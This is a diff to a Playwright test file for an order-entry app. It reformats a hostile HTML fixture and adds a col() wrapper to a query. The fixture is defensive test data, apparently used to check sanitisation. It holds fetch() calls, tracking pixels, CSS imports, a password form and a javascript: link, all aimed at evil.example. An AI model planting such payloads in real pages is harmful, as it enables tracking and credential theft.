@@ -7,7 +7,7 @@ from collections.abc import Callable, Iterator
 
 import pytest
 from playwright.sync_api import Browser, BrowserContext, Page, expect
-from sqlmodel import select
+from sqlmodel import col, select
 
 from models.content import value
 from models.database import snapshot
@@ -25,10 +25,13 @@ HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://evil.e
 <link rel="stylesheet" href="http://evil.example/style.css"><style>@import url(http://evil.example/import.css);</style></head>
 <body onload="fetch('http://evil.example/onload')" background="http://evil.example/background.png">
 <p>Bitte liefern Sie <b>drei Kartons</b>.</p><script>fetch('http://evil.example/script')</script>
-<img src="http://evil.example/pixel.png" onerror="fetch('http://evil.example/onerror')"><img src="x" srcset="http://evil.example/set.png 2x">
-<div style="background:url(http://evil.example/css.png)">x</div><svg onload="fetch('http://evil.example/svg')"><image href="http://evil.example/i.png"/></svg>
+<img src="http://evil.example/pixel.png" onerror="fetch('http://evil.example/onerror')">
+<img src="x" srcset="http://evil.example/set.png 2x">
+<div style="background:url(http://evil.example/css.png)">x</div>
+<svg onload="fetch('http://evil.example/svg')"><image href="http://evil.example/i.png"/></svg>
 <form action="http://evil.example/form"><input name="password"><button>Weiter</button></form>
-<iframe src="http://evil.example/frame"></iframe><video src="http://evil.example/v.mp4" autoplay></video><a href="javascript:alert(1)">Link</a>
+<iframe src="http://evil.example/frame"></iframe>
+<video src="http://evil.example/v.mp4" autoplay></video><a href="javascript:alert(1)">Link</a>
 <a ping="http://evil.example/ping" href="http://evil.example/link">Link</a></body></html>"""
 
 
@@ -107,7 +110,7 @@ def test_a_corrected_quantity_is_saved_priced_and_confirmed(house: House, url: s
     (confirmed,) = orders(house)
     assert f"{confirmed.gross_total:.2f}".replace(".", ",") == gross.replace(".", "")
     with snapshot(house.engine) as session:
-        assert [line.quantity for line in session.exec(select(OrderLine).order_by(OrderLine.position))] == [3, 40]
+        assert [line.quantity for line in session.exec(select(OrderLine).order_by(col(OrderLine.position)))] == [3, 40]
 
 
 def test_focus_in_a_field_lights_its_evidence(house: House, url: str, clerk: Callable[[str], Page]) -> None:
